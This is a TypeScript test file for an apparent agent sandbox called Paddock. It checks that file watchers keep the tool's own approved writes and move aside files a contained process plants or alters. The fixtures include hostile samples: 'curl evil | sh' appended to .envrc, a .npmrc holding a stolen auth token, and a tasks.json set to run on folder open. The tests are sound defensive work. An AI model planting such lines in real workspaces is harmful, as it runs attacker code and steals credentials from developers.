// What Paddock's own file tools write while a contained process runs (a write the owner approved on
// its card, an edit-mode edit, an undo's restore) is not a plant: the always-card watches keep it
// instead of moving it out and stopping the process. It is kept only as Paddock left it: a file
// changed in place since, or a name beside it inside a folder Paddock made, is judged as before.
import fs from 'node:fs';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { watchAlwaysCard } from '../../../src/main/sandbox/alwaysCardGuard';
import { watchAlwaysCardLive } from '../../../src/main/sandbox/alwaysCardLive';
import { writeInside } from '../../../src/main/workspace/files';
import { isPaddockMade, notePaddockFile } from '../../../src/main/workspace/paddockMade';
import { createTempDirs } from '../../support/tempDirs';

const temp = createTempDirs('paddock-own-writes-');
afterEach(() => temp.cleanup());

function workspace() {
  const ws = temp.make();
  fs.mkdirSync(path.join(ws, 'src'));
  const ctx = { workspace: ws, home: temp.make(), dataDir: temp.make() };
  return { ws, ctx, refused: path.join(ctx.dataDir, 'refused') };
}

const settle = (ms = 300): Promise<void> => new Promise((resolve) => setTimeout(resolve, ms));

async function until(condition: () => boolean, what: string, ms = 10_000): Promise<void> {
  const deadline = Date.now() + ms;
  while (!condition()) {
    if (Date.now() > deadline) throw new Error(`not within ${ms} ms: ${what}`);
    await settle(20);
  }
}

describe('the live watch and Paddock’s own writes', () => {
  it('keeps a new .envrc, a new .vscode with its settings and a new workflow that Paddock wrote', async () => {
    const { ws, ctx, refused } = workspace();
    const watch = watchAlwaysCardLive(ws, refused, 100);
    const appeared: string[] = [];
    watch.onAppeared((rels) => appeared.push(...rels));
    try {
      for (const [rel, text] of [
        ['.envrc', 'export A=1\n'],
        ['.vscode/settings.json', '{}\n'],
        ['.github/workflows/ci.yml', 'on: push\n'],
        ['packages/app/.npmrc', 'save-exact=true\n'],
      ]) {
        const written = writeInside(ctx, rel!, text!);
        expect(written.ok).toBe(true);
      }
      await settle();
      expect(appeared).toEqual([]);
      expect(fs.readFileSync(path.join(ws, '.envrc'), 'utf8')).toBe('export A=1\n');
      expect(fs.readFileSync(path.join(ws, '.vscode/settings.json'), 'utf8')).toBe('{}\n');
      expect(fs.readFileSync(path.join(ws, '.github/workflows/ci.yml'), 'utf8')).toBe('on: push\n');
      expect(fs.existsSync(path.join(ws, 'packages/app/.npmrc'))).toBe(true);
    } finally {
      expect(watch.finish()).toEqual([]);
    }
  });

  it('moves what a process puts beside it in a folder Paddock made, and a file of Paddock’s changed in place, at once', async () => {
    const { ws, ctx, refused } = workspace();
    // No full sweep within the test: the folder's events alone must tell.
    const watch = watchAlwaysCardLive(ws, refused, 60_000);
    try {
      expect(writeInside(ctx, '.vscode/settings.json', '{}\n').ok).toBe(true);
      expect(writeInside(ctx, '.envrc', 'export A=1\n').ok).toBe(true);
      await settle();
      // The process, beside Paddock's settings: a task run on folder open.
      fs.writeFileSync(path.join(ws, '.vscode', 'tasks.json'), '{"tasks":[{"runOn":"folderOpen"}]}\n');
      await until(() => !fs.existsSync(path.join(ws, '.vscode', 'tasks.json')), 'tasks.json moved', 2_000);
      expect(fs.readFileSync(path.join(ws, '.vscode/settings.json'), 'utf8')).toBe('{}\n');
      // The process, into Paddock's .envrc in place (same inode).
      fs.appendFileSync(path.join(ws, '.envrc'), 'curl evil | sh\n');
      await until(() => !fs.existsSync(path.join(ws, '.envrc')), '.envrc changed in place moved', 2_000);
    } finally {
      const moved = watch.finish().map((entry) => entry.path);
      expect(moved).toEqual(expect.arrayContaining(['.vscode/tasks.json', '.envrc']));
      expect(moved).not.toContain('.vscode');
    }
  });

  it('a file planted where Paddock once wrote, after Paddock’s was removed, is moved', async () => {
    const { ws, ctx, refused } = workspace();
    const watch = watchAlwaysCardLive(ws, refused, 100);
    try {
      expect(writeInside(ctx, '.npmrc', 'a\n').ok).toBe(true);
      await settle();
      fs.rmSync(path.join(ws, '.npmrc'));
      // Likely on the freed inode: the change time tells the two apart.
      fs.writeFileSync(path.join(ws, '.npmrc'), '//registry/:_authToken=stolen\n');
      await until(() => !fs.existsSync(path.join(ws, '.npmrc')), 'planted .npmrc moved');
    } finally {
      watch.finish();
    }
  });
});

describe('what is not Paddock’s though Paddock wrote it (a security review’s attacks)', () => {
  it('a folder Paddock made elsewhere, renamed into an always-card place, is moved', () => {
    const { ws, ctx, refused } = workspace();
    // An ordinary write, no card: a folder and a task file in it.
    expect(writeInside(ctx, 'src/conf/tasks.json', '{"tasks":[{"runOptions":{"runOn":"folderOpen"}}]}\n').ok).toBe(
      true,
    );
    const watch = watchAlwaysCard(ws, refused);
    fs.renameSync(path.join(ws, 'src/conf'), path.join(ws, '.vscode'));
    expect(watch.finish().map((entry) => entry.path)).toEqual(['.vscode']);
    expect(fs.existsSync(path.join(ws, '.vscode'))).toBe(false);
  });

  it('a Paddock folder moved to another always-card place is moved', () => {
    const { ws, ctx, refused } = workspace();
    fs.mkdirSync(path.join(ws, 'packages/x'), { recursive: true });
    // Written while the command runs (what was there before it started is bound read-only in its sandbox).
    const watch = watchAlwaysCard(ws, refused);
    expect(writeInside(ctx, '.vscode/settings.json', '{}\n').ok).toBe(true);
    fs.renameSync(path.join(ws, '.vscode'), path.join(ws, 'packages/x/.vscode'));
    expect(watch.finish().map((entry) => entry.path)).toEqual(['packages/x/.vscode']);
  });

  it('a file with a second name (a hard link made to the temp file before its rename) is not noted', () => {
    const { ws } = workspace();
    const file = path.join(ws, '.envrc');
    fs.writeFileSync(file, 'export A=1\n');
    fs.linkSync(file, path.join(ws, 'other'));
    const fd = fs.openSync(file, 'r');
    try {
      notePaddockFile(fd, file, Buffer.from('export A=1\n'));
    } finally {
      fs.closeSync(fd);
    }
    const st = fs.lstatSync(file);
    expect(isPaddockMade(file, `${st.dev}:${st.ino}`)).toBe(false);
  });

  it('a file whose bytes are not what Paddock wrote (rewritten before it was noted) is not noted', () => {
    const { ws } = workspace();
    const file = path.join(ws, '.envrc');
    fs.writeFileSync(file, 'curl evil | sh\n');
    const fd = fs.openSync(file, 'r');
    try {
      notePaddockFile(fd, file, Buffer.from('export A=1\n'));
    } finally {
      fs.closeSync(fd);
    }
    const st = fs.lstatSync(file);
    expect(isPaddockMade(file, `${st.dev}:${st.ino}`)).toBe(false);
  });

  it('a hard link made to a Paddock file later makes it not Paddock’s, under either name', () => {
    const { ws, ctx, refused } = workspace();
    const watch = watchAlwaysCard(ws, refused);
    expect(writeInside(ctx, '.npmrc', 'save-exact=true\n').ok).toBe(true);
    fs.linkSync(path.join(ws, '.npmrc'), path.join(ws, '.envrc'));
    expect(
      watch
        .finish()
        .map((entry) => entry.path)
        .sort(),
    ).toEqual(['.envrc', '.npmrc']);
  });
});

describe('a bounded command’s watch and Paddock’s own writes', () => {
  it('keeps what Paddock wrote while the command ran, and moves what the command planted', () => {
    const { ws, ctx, refused } = workspace();
    const watch = watchAlwaysCard(ws, refused);
    // Another agent's approved write, while this agent's command runs.
    expect(writeInside(ctx, '.vscode/settings.json', '{}\n').ok).toBe(true);
    fs.writeFileSync(path.join(ws, '.envrc'), 'planted\n');
    expect(watch.finish().map((entry) => entry.path)).toEqual(['.envrc']);
    expect(fs.readFileSync(path.join(ws, '.vscode/settings.json'), 'utf8')).toBe('{}\n');
  });
});
